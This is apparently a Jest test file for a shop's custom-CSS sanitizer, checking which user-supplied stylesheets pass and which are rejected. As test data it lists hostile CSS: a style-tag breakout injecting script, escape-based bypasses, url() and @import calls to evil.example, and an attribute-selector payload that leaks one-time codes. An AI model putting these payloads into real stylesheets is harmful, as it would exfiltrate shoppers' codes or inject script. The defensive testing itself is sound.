import { safeCustomCss } from '@/lib/shop/customCss';
import { cssProblem, MAX_CUSTOM_CSS } from './cssProblem';

const FOREIGN = /url\(\) 只能用本店/;

test.each<[string, string, RegExp | null]>([
  ['ordinary rules', ':root{--shop-accent:#2f6f5e} .a > .b{color:red}', null],
  ['a child combinator and a less-than in a string', '.a>.b::after{content:"<"}', null],
  ['a CSS comment', '/* 節慶配色 */ body{margin:0}', null],
  ['an escaped quote', '.a::before{content:"\\""}', null],
  ['a unicode escape of another character', '.a::before{content:"\\2014"}', null],
  ['a hex escape that only starts like 3c', '.a::before{content:"\\3cd"}', null],
  ['the closing tag', 'a{}</style><script>alert(1)</script>', /<\/style/],
  ['the closing tag in capitals with a space', '</STYLE >', /<\/style/],
  ['an HTML comment opening', 'a{}<!--', /HTML 註解/],
  ['an HTML comment closing', '--> a{}', /HTML 註解/],
  ['an escaped less-than', '.a::after{content:"\\3c/style>"}', /跳脫/],
  ['a padded escape in capitals', '.a::after{content:"\\00003C"}', /跳脫/],
  ['an escaped greater-than', '.a::after{content:"\\3e"}', /跳脫/],
  ['a backslash before <', '.a::after{content:"\\<"}', /跳脫/],
  ['too long', 'a'.repeat(MAX_CUSTOM_CSS + 1), /最多/],
  // Pictures the shop owns, on its own origin, or inline.
  ['an uploaded picture', `.hero{background:url(/api-client/media/${'a'.repeat(64)}.webp)}`, null],
  ['a shipped picture, quoted', ".hero{background:url('/images/empty-cart.png')}", null],
  ['a demo picture with spaces around', '.hero{background:url( "/demo/shop1/banner.jpg" )}', null],
  ['an inline picture', '.dot{background:url(data:image/png;base64,iVBORw0KGgo=)}', null],
  ['a word containing url', '.curl-icon{color:red}', null],
  // Anything that reaches another server or runs something.
  [
    'the one-time-code leak',
    'input[autocomplete=one-time-code][value$="1"]{background:url(https://evil.example/1)}',
    FOREIGN,
  ],
  ['a quoted foreign address', 'a{background:url("https://evil.example/x")}', FOREIGN],
  ['a protocol-relative address', 'a{background:url(//evil.example/x)}', FOREIGN],
  ['a relative path outside the pictures', 'a{background:url(/api-client/orders)}', FOREIGN],
  ['a climb out of the pictures', 'a{background:url(/images/../api-client/x)}', FOREIGN],
  ['url in capitals', 'a{background:URL(https://evil.example/x)}', FOREIGN],
  ['an escape in the function name', 'a{background:u\\72l(https://evil.example/x)}', FOREIGN],
  ['an escape spelling the whole name', 'a{background:\\75\\72\\6c(https://evil.example/x)}', FOREIGN],
  ['an escape inside the address', 'a{background:url(\\68ttps://evil.example/x)}', FOREIGN],
  ['an escaped quote hiding the address', 'a{background:url("/images/\\"https://evil")}', FOREIGN],
  ['a comment inside the function', 'a{background:url(/images/a.png/**/https://evil)}', FOREIGN],
  [
    'a string that looks like a comment opening',
    'a::after{content:"/*"} b{background:url(https://evil.example/x)} i::after{content:"*/"}',
    FOREIGN,
  ],
  ['an inline SVG', 'a{background:url("data:image/svg+xml,<svg></svg>")}', FOREIGN],
  ['an inline page', 'a{background:url(data:text/html,hi)}', FOREIGN],
  ['an import', '@import "https://evil.example/x.css";', /@import/],
  ['an import with url', '@IMPORT url(/images/a.css);', /@import/],
  ['an escaped import', '@\\69mport "https://evil.example/x.css";', /@import/],
  ['image-set', 'a{background:image-set("https://evil.example/x" 1x)}', /image-set\(\)/],
  ['a prefixed image-set', 'a{background:-webkit-image-set("https://evil/x" 1x)}', /image-set\(\)/],
  ['src()', 'a{background:src("https://evil.example/x")}', /src\(\)/],
  ['image()', 'a{background:image("https://evil.example/x")}', /image\(\)/],
  ['expression()', 'a{width:expression(alert(1))}', /expression\(\)/],
  ['a font from elsewhere', '@font-face{font-family:x;src:url(https://evil.example/f.woff)}', FOREIGN],
])('%s', (_name, css, problem) => {
  const found = cssProblem(css);
  if (problem === null) {
    expect(found).toBeNull();
    // What is accepted is served exactly as typed.
    expect(safeCustomCss(css)).toBe(css);
  } else expect(found).toMatch(problem);
});
